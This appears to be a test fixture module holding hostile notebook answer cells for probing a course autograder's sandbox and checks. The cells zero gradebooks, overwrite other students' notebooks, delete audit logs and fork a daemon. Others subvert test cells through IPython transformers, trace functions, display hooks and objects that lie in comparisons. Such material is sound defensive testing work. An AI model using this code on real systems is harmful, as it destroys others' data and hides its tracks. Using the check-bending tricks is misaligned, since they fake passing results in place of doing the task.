"""Hostile answer cells, written as a student who read the README would write them.

Each constant is the source of one answer cell. They know the course layout
(``solutions/`` is the source, everything the grader makes is under
``autograder/``, the gradebook is ``autograder/gradebook.db`` or the URL in
``NBGRADER_DB_URL``) and search for it from the kernel's working directory
upwards, then over the whole file system they can see. Every attack swallows
its own errors, so a sandboxed attempt leaves a blank (or honest) answer.
"""

from __future__ import annotations

# Walk up to the course root and search the visible file system (pruned, to stay inside a 5 s cell).
_FIND = '''
import json, os
from pathlib import Path

def _candidates(patterns, walk=True):
    here = Path.cwd().resolve()
    found = False
    for folder in [here, *here.parents]:
        for pattern in patterns:
            try:
                for path in folder.glob(pattern):
                    found = True
                    yield path
            except OSError:
                pass
    if found or not walk:
        return
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", ".pyenv", "lib",
                                                 "include", "share", "etc", "node_modules", ".git")]
        for name in files:
            path = Path(top, name)
            if any(path.match(p) for p in patterns):
                yield path
'''

#: The issue's first attack: a blank submission that runs the answer key after every cell.
ANSWER_KEY = _FIND + '''
_key = next(iter(_candidates(["solutions/ex01-*/ex01-*.ipynb", "*/solutions/ex01-*/ex01-*.ipynb",
                             "source/ex01-*/ex01-*.ipynb"])), None)
if _key is not None:
    _cells = ["".join(c["source"]) for c in json.loads(_key.read_text())["cells"]
              if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("solution")]
    _ip = get_ipython()

    def _answer_key(result=None):
        for code in _cells:  # one at a time: a cell that needs a later instructor cell must not stop the others
            try:
                exec(code, _ip.user_ns)
            except Exception:
                pass

    _ip.events.register("post_run_cell", _answer_key)
    _answer_key()
'''

_ZERO_SQLITE = '''
def _zero_gradebooks():
    import sqlite3
    books = set(_candidates(["gradebook.db", "autograder/gradebook.db", "*.db"]))
    url = os.environ.get("NBGRADER_DB_URL", "")
    if url.startswith("sqlite:///"):
        books.add(Path(url[len("sqlite:///"):].split("?")[0]))
    hits = 0
    for book in books:
        try:
            con = sqlite3.connect(str(book), timeout=30)
            hits += con.execute("update grade set auto_score = 0").rowcount
            con.commit()
            con.close()
        except Exception:
            pass
    return hits
'''

#: The issue's second attack: zero every grade in the SQLite gradebook above the working directory.
GRADEBOOK_SQLITE = _FIND + _ZERO_SQLITE + "_zero_gradebooks()\n"

#: The same against PostgreSQL: the URL from the environment, else any PostgreSQL socket it can find.
GRADEBOOK_POSTGRES = _FIND + '''
def _zero_postgres():
    import glob
    import psycopg
    targets = []
    url = os.environ.get("NBGRADER_DB_URL", "")
    if url.startswith("postgresql"):
        targets.append(url.replace("postgresql+psycopg://", "postgresql://"))
    for sock in glob.glob("/tmp/*/sock/.s.PGSQL.*") + glob.glob("/var/run/postgresql/.s.PGSQL.*"):
        targets.append(f"postgresql://postgres@/gradebook?host={os.path.dirname(sock)}")
    for target in targets:
        try:
            with psycopg.connect(target, connect_timeout=2) as con:
                con.execute("update grade set auto_score = 0")
        except Exception:
            pass

_zero_postgres()
'''

#: Read the notebooks other students submitted (or that were autograded) and run their answers.
READ_OTHERS = _FIND + '''
_theirs = None
for _nb in _candidates(["autograder/submitted/*/ex01-*/*.ipynb", "autograder/autograded/*/ex01-*/*.ipynb",
                        "submitted/*/ex01-*/*.ipynb", "autograded/*/ex01-*/*.ipynb"]):
    try:
        _cells = json.loads(_nb.read_text())["cells"]
    except Exception:
        continue
    _answers = ["".join(c["source"]) for c in _cells
                if c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("solution")]
    if _answers and not any("NotImplementedError" in a or "_candidates" in a for a in _answers):
        _theirs = _answers
        break
for _answer in _theirs or []:
    exec(_answer)
'''

#: Overwrite every other student's submitted and autograded notebook with an empty one.
OVERWRITE_OTHERS = _FIND + '''
for _nb in list(_candidates(["autograder/submitted/*/ex01-*/*.ipynb", "autograder/autograded/*/ex01-*/*.ipynb",
                             "submitted/*/ex01-*/*.ipynb", "autograded/*/ex01-*/*.ipynb"])):
    if "h-overwriter" not in str(_nb):
        try:
            _nb.write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        except Exception:
            pass
'''

#: A double-forked daemon that keeps zeroing the gradebook for a minute after the notebook ends.
DOUBLE_FORK = _FIND + _ZERO_SQLITE + '''
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            try:
                _zero_gradebooks()
            except Exception:
                pass
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
os.wait()
'''

#: Send the answers out to a server on the loopback address (PORT is filled in by the test).
CONNECT = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as _s:
        _s.sendall(b"hello from the sandbox")
except OSError:
    pass
'''

#: Having read that an audit hook logs attempts: remove the logs, then try the gradebook.
HIDE_TRACKS = _FIND + _ZERO_SQLITE + """
import glob
for _log in glob.glob("/var/tmp/*/run/audit-*.log") + glob.glob("/tmp/**/audit-*.log", recursive=True):
    try:
        os.remove(_log)
    except OSError:
        pass
_zero_gradebooks()
"""


# -- Attacks on the checks themselves (issue 19): code in one cell that bends the test cells after it. -------------
# With the checks in the student's kernel (``nablakit-grade --in-kernel-checks``, plain ``nbgrader autograde``)
# they reach every later test cell; with the checks in a separate checker they reach only the student's own kernel.

#: (a) An input transformer: every later cell that mentions assert or check becomes ``pass``.
INPUT_TRANSFORMER = '''
def _skip_checks(lines):
    text = "".join(lines)
    if "assert" in text or "check" in text:
        return ["pass\\n"]
    return lines

get_ipython().input_transformers_cleanup.append(_skip_checks)
'''

#: (b) An AST transformer: every later cell runs inside ``try: ... except: pass``.
AST_TRANSFORMER = '''
import ast

class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_Swallow())
'''

#: (c) A custom exception handler and a silent traceback display: failing cells show no error.
CUSTOM_EXC = '''
_ip = get_ipython()

def _quiet(shell, etype, value, tb, tb_offset=None):
    return []

_ip.set_custom_exc((AssertionError, NameError, NotImplementedError, TypeError, ValueError, Exception), _quiet)
_ip.showtraceback = lambda *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
'''

#: (d) Exercise 6, first answer cell: variants off, the notebook's variant object refilled with the reference
#: variant's numbers (the set-up cells below then compute on them) and every later draw giving the reference too.
VARIANT_SWITCH = '''
import os
os.environ["NABLAKIT_VARIANTS"] = "off"
variants.forget()
_reference = variants.draw("ex06", show=True)
variant.params.clear()
variant.params.update(_reference.params)
'''

#: What (e) and (i) install: a trace function that makes every check of ``nablakit.checks`` pass, by rewriting
#: its arguments as it is called (a trace function may change the locals of the frame it traces).
_SWALLOWING_TRACER = '''
def _swallow(frame, event, arg):
    if event == "call" and frame.f_code.co_filename.endswith("checks.py"):
        args = frame.f_locals
        if frame.f_code.co_name == "expect":
            args["condition"] = True
        elif frame.f_code.co_name in ("expect_close", "expect_same_points"):
            args["received"] = args["expected"]
    return None
'''

#: Exercise 1 answered with wrong numbers of the right shapes: the answers (e), (f) and (i) dress up.
EX01_DUMMY = {
    "ex01-a-answer": "def df_dx(x, y, z):\n    return 0.0\n\n\ndef df_dy(x, y, z):\n    return 0.0\n\n\n"
                     "def df_dz(x, y, z):\n    return 0.0\n",
    "ex01-b-answer": "grad_f_at_110 = np.zeros(3)\n",
    "ex01-c-answer": "def d2f_dxdy(x, y, z):\n    return 0.0\n\n\ndef d2f_dydx(x, y, z):\n    return 0.0\n",
    "ex01-d-grad-answer": "def grad_L(w):\n    return np.zeros(2)\n",
    "ex01-d-points-answer": "critical_points_L = [(0.0, 0.0), (1.0, 1.0), (2.0, 2.0)]\n",
}

#: (e) ``sys.settrace`` in an answer cell: the trace function rewrites the arguments of every later check.
SETTRACE = "import sys\n" + _SWALLOWING_TRACER + "\nsys.settrace(_swallow)\n"

#: (f) The display hook replaced, and answers that display a score when a test calls them (nbgrader reads a number
#: shown by a test cell before its error as partial credit).
DISPLAYHOOK = '''
import sys
_show = sys.displayhook

def _full_marks(value):
    _show(1.0)

sys.displayhook = _full_marks
get_ipython().display_trap.hook = _full_marks
'''
EX01_DISPLAYING = {
    "ex01-a-answer": "import sys\n\n\ndef df_dx(x, y, z):\n    sys.displayhook(1.0)\n    return 0.0\n\n\n"
                     "def df_dy(x, y, z):\n    sys.displayhook(1.0)\n    return 0.0\n\n\n"
                     "def df_dz(x, y, z):\n    sys.displayhook(1.0)\n    return 0.0\n",
}

#: (g) The kernel's execute_request handler replaced: a request whose code mentions assert or check runs ``pass``.
EXECUTE_HANDLER = '''
_kernel = get_ipython().kernel
_original = _kernel.shell_handlers["execute_request"]

async def _no_tests(stream, ident, parent):
    code = parent["content"].get("code", "")
    if "assert" in code or "check" in code:
        parent["content"]["code"] = "pass"
    result = _original(stream, ident, parent)
    if hasattr(result, "__await__"):
        result = await result
    return result

_kernel.shell_handlers["execute_request"] = _no_tests
'''

#: (h) Answers that are objects lying through ``__array__``, ``__float__`` and ``__eq__``: each looks up the
#: reference value in the frames of the check that reads it (exercise 1, answer cell -> source).
LIAR = '''
import sys
import numpy as np

class _Answer:
    def _wanted(self):
        frame = sys._getframe(2)
        while frame is not None:
            for name in ("expected", "ref"):
                if name in frame.f_locals:
                    return np.asarray(frame.f_locals[name], dtype=float)
            frame = frame.f_back
        return np.zeros(3)

    def __array__(self, dtype=None, copy=None):
        return self._wanted().astype(dtype or float)

    def __float__(self):
        return float(self._wanted().ravel()[0])

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


def df_dx(x, y, z):
    return _Answer()


def df_dy(x, y, z):
    return _Answer()


def df_dz(x, y, z):
    return _Answer()
'''
EX01_LIAR = {
    "ex01-a-answer": LIAR,
    "ex01-b-answer": "grad_f_at_110 = _Answer()\n",
    "ex01-c-answer": "def d2f_dxdy(x, y, z):\n    return _Answer()\n\n\ndef d2f_dydx(x, y, z):\n    return _Answer()\n",
    "ex01-d-grad-answer": "def grad_L(w):\n    return _Answer()\n",
    "ex01-d-points-answer": "critical_points_L = _Answer()\n",
}

#: (i) A student function that installs the swallowing trace function when a test calls it.
HOOK_ON_CALL = "import sys\n" + _SWALLOWING_TRACER + '''

def df_dx(x, y, z):
    sys.settrace(_swallow)
    return 0.0


def df_dy(x, y, z):
    return 0.0


def df_dz(x, y, z):
    return 0.0
'''
